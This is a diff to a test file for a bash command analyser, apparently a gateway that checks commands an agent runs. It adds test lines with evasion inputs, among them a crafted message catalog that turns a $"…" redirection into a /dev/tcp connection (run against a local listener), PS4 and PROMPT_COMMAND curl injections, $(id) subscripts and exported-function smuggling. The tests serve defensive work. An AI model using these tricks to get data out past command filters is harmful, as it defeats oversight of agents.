@@ -8,7 +8,7 @@
  * `-G`). A change to a handler that changes what a line runs fails one of these.
  */
 import { execFileSync } from 'node:child_process'
-import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -853,10 +853,12 @@ describe('the walk, second pass: the Script class survivors of 2026-12-03, each 
       ['echo {,x}', { programs: ['echo'], argv: undefined }],
       ['echo {a,~}', { programs: ['echo'], argv: undefined }],
       ['echo {a,x~}', { programs: ['echo'], argv: ['echo', 'a', 'x~'] }],
-      // $"…" is looked up in a message catalog the caller can write: known only at run time
+      // $"…" is looked up in a message catalog the caller can write: known only at run time,
+      // from where it starts (its translation may be /dev/tcp/…: see the test run by bash below)
       ['$"curl" x', { programs: [], dynamic: true }],
-      // …but its literal text still rules out /dev/tcp as a redirection target
-      ['ls > $"/tmp/x"', { programs: ['ls'], network: false }],
+      ['ls > $"/tmp/x"', { programs: ['ls'], network: true }],
+      // text before it is still a prefix that rules /dev/tcp out
+      ['ls > /tmp/$"x"', { programs: ['ls'], network: false }],
     ])
   })
 
@@ -917,5 +919,145 @@ describe('the walk, second pass: the Script class survivors of 2026-12-03, each 
       ['time ! x=1 curl', { programs: ['time', 'curl'], env: ['x'], argv: undefined }],
       ['time -p curl', { programs: ['time', 'curl'], argv: ['time', '-p', 'curl'] }],
     ])
+  })
+})
+
+/** A GNU message catalog (.mo) holding `pairs`, sorted by their original text as gettext requires. */
+function messageCatalog(pairs: Record<string, string>): Buffer {
+  const entries = Object.entries({ '': 'Content-Type: text/plain; charset=UTF-8\n', ...pairs }).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))
+  const n = entries.length
+  const tables = 28
+  let at = tables + 16 * n
+  const head = Buffer.alloc(at)
+  const strings: Buffer[] = []
+  head.writeUInt32LE(0x950412de, 0)
+  head.writeUInt32LE(0, 4)
+  head.writeUInt32LE(n, 8)
+  head.writeUInt32LE(tables, 12)
+  head.writeUInt32LE(tables + 8 * n, 16)
+  entries.forEach(([original, translation], i) => {
+    for (const [table, text] of [[0, original], [1, translation]] as const) {
+      const bytes = Buffer.from(text, 'utf8')
+      head.writeUInt32LE(bytes.length, tables + 8 * n * table + 8 * i)
+      head.writeUInt32LE(at, tables + 8 * n * table + 8 * i + 4)
+      strings.push(bytes, Buffer.alloc(1))
+      at += bytes.length + 1
+    }
+  })
+  return Buffer.concat([head, ...strings])
+}
+
+describe('the walk, third pass: the Script class survivors of 2026-12-03 (afternoon), each checked against bash 5.2', () => {
+  it('$"…" in a redirection is translated by a catalog the caller names: bash 5.2 connects to /dev/tcp (run here)', async () => {
+    // needs a locale other than C/POSIX: .ci/run generates en_US.UTF-8
+    const locales = execFileSync('locale', ['-a'], { encoding: 'utf8' })
+    expect(locales, 'en_US.UTF-8 is not generated: localedef -i en_US -f UTF-8 en_US.UTF-8').toMatch(/^en_US\.utf8$/im)
+    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-catalog-'))
+    const { createServer } = await import('node:net')
+    const received: string[] = []
+    const server = createServer((socket) => socket.on('data', (d) => received.push(String(d))))
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    try {
+      const port = (server.address() as { port: number }).port
+      const decoy = join(dir, 'out')
+      mkdirSync(join(dir, 'en_US.UTF-8', 'LC_MESSAGES'), { recursive: true })
+      writeFileSync(join(dir, 'en_US.UTF-8', 'LC_MESSAGES', 'evil.mo'), messageCatalog({ [decoy]: `/dev/tcp/127.0.0.1/${port}` }))
+      // the catalog is named on the line before, as an agent's command would
+      const line = `TEXTDOMAINDIR=${dir}; TEXTDOMAIN=evil\necho leaked > $"${decoy}"`
+      expect(facts(line)).toMatchObject({ programs: ['echo'], network: true })
+      execFileSync('bash', ['-c', line], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', LC_ALL: 'en_US.UTF-8' }, stdio: 'ignore', timeout: 10_000 })
+      await new Promise((resolve) => setTimeout(resolve, 200))
+      expect(received.join('')).toBe('leaked\n')
+      expect(existsSync(decoy)).toBe(false)
+    } finally {
+      server.close()
+      rmSync(dir, { recursive: true, force: true })
+    }
+  })
+
+  describe('standard input and redirections carried to the last command', () => {
+    eachLine([
+      // an enclosing statement's here-string goes to the last command of a list, and past `!`
+      ["true && bash <<< 'curl x'", { programs: ['true', 'bash', 'curl'], dynamic: false }],
+      ["! bash <<< 'curl x'", { programs: ['bash', 'curl'], dynamic: false }],
+      // a redirection nested in a heredoc's is later: bash reads /dev/null, not the heredoc
+      ["bash <<'E' < /dev/null\ncurl x\nE", { programs: ['bash'], dynamic: false }],
+      // a word touching `<<<` is an argument; a number touching `<` is a descriptor, and 3 is not standard input
+      ["bash -s x<<<'curl a'", { programs: ['bash', 'curl'], dynamic: false }],
+      ['bash -s 3</dev/null', { programs: ['bash'], dynamic: true }],
+      ['bash -s </dev/null', { programs: ['bash'], dynamic: false }],
+      // the outer shell substitutes an unquoted heredoc's backticks before bash reads it
+      ['bash <<E\n`curl a`\nE', { programs: ['bash', 'curl'], dynamic: true }],
+      ['bash <<E\necho `curl a`\nE', { programs: ['bash', 'curl'], dynamic: true }],
+      // a `$` before a blank is a character
+      ['bash <<E\necho cost: 5$ now\nE', { programs: ['bash', 'echo'], dynamic: false }],
+      // a computed redirection target may be /dev/tcp; so may `~` when HOME is computed
+      ['echo a > {,x}', { network: true }],
+      ['echo a > $@{1..2}', { redirects: ['$@{1..2}'], network: true }],
+      ['HOME=$x; echo a > ~', { network: true }],
+      ['HOME=$x; echo a > /tmp/f', { network: false }],
+    ])
+  })
+
+  describe('[[ ]]: network paths and subscripts that run code', () => {
+    eachLine([
+      ["[[ -e '/dev/tcp/h/1' ]]", { programs: [], network: true }],
+      ["[[ -e '/dev//tcp/h/1' ]]", { network: true }],
+      ['[[ $x =~ /dev/tcp/h/1 ]]', { network: true }],
+      ['[[ -e /tmp/x ]]', { network: false }],
+      ['[[ -v a\\[\\$\\(id\\)\\] ]]', { dynamic: true }],
+      // the pieces only make `$(` together
+      [`[[ -v a'[$'"(id)]" ]]`, { dynamic: true }],
+      ["[[ -v {a,'b[$(id)]'} ]]", { dynamic: true }],
+      ["unset {b,'a[$(id)]'}", { programs: ['unset'], dynamic: true }],
+    ])
+  })
+
+  describe('values bash runs: prompts, PROMPT_COMMAND, exported functions, ${NAME=word}', () => {
+    eachLine([
+      ["echo \"${x:-'\\044(id)'}\"", { programs: ['echo'], dynamic: false }],
+      // a substitution in a prompt is analysed as a script: its commands, and what they run
+      ["PS4='$(curl x)' bash -x -c true", { programs: ['curl', 'bash', 'true'], dynamic: false }],
+      [`PS4='$(bash -c "curl x")' bash -x -c true`, { programs: ['bash', 'curl', 'true'], dynamic: false }],
+      // prompt escapes: \\$ is $, \\\\ is a backslash (so \\\\044 is not $), a trailing backslash is dropped
+      ["PS4='$(curl a)\\' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
+      ["PS4='\\$(curl a)' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
+      ["PS4='\\\\044(curl a)' bash -x -c :", { programs: ['bash', ':'] }],
+      ["PS4='$(cu\\\\rl a)' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
+      // after `time`, the assignment's value with quotes removed (and not brace-expanded)
+      ["time PROMPT_COMMAND='curl a' bash -i", { programs: ['time', 'curl', 'bash'] }],
+      ['time PROMPT_COMMAND=a\\;{curl,wget} bash -i', { programs: ['time', 'a;curl', 'bash'] }],
+      ['time x[$(id)]=1 curl', { programs: ['time', 'id', 'curl'], dynamic: false }],
+      ["sudo PROMPT_COMMAND='curl a' bash -i", { programs: ['sudo', 'curl', 'bash'] }],
+      // `=x` is no assignment: it is the program
+      ['sudo =x curl', { programs: ['sudo', '=x'], dynamic: false }],
+      ['systemd-run -E FOO true', { programs: ['systemd-run', 'true'], dynamic: false }],
+      ['systemd-run -E', { programs: ['systemd-run'], dynamic: false }],
+      // declare: += appends to a value the gateway does not know; a subscript is the array's name
+      ["declare 'PROMPT_COMMAND+=curl a'", { programs: ['declare'], dynamic: true }],
+      ["declare 'PROMPT_COMMAND=curl a'", { programs: ['declare', 'curl'], dynamic: false }],
+      ["declare 'x[12]=y'", { env: ['x'] }],
+      ["declare 'x[a b]=y'", { env: ['x'] }],
+      // an exported function's value is a script after its leading `()`, not after any `()`
+      ["env 'BASH_FUNC_f%%=curl a; g() { id; }' bash -c f", { programs: ['env', 'curl', 'id', 'bash', 'f'] }],
+      [': ${PROMPT_COMMAND=curl$x}', { programs: [':'], dynamic: true }],
+      // `#=` removes a prefix: no assignment
+      [': ${PROMPT_COMMAND#=curl}', { programs: [':'], dynamic: false }],
+      // a computed name may be any variable; a computed callback is unknown
+      ['read "$v"', { programs: ['read'], dynamic: true }],
+      ['printf -v "$n" x', { programs: ['printf'], dynamic: true }],
+      ['mapfile -C "$f" x', { programs: ['mapfile'], dynamic: true }],
+      // a `$` that ends a double-quoted string is a character
+      ['echo "a$"', { programs: ['echo'], argv: ['echo', 'a$'] }],
+    ])
+
+    it('an exported function value that does not start with `()` is read as a script: `(x) curl` does not parse', () => {
+      expect(analyzeCommand("env 'BASH_FUNC_f%%=(x) curl a' bash -c f").ok).toBe(false)
+    })
+
+    it('a vertical tab at either end of the line is no blank for bash: refused', () => {
+      expect(analyzeCommand('\vcurl x').ok).toBe(false)
+      expect(analyzeCommand('curl x\v').ok).toBe(false)
+    })
   })
 })
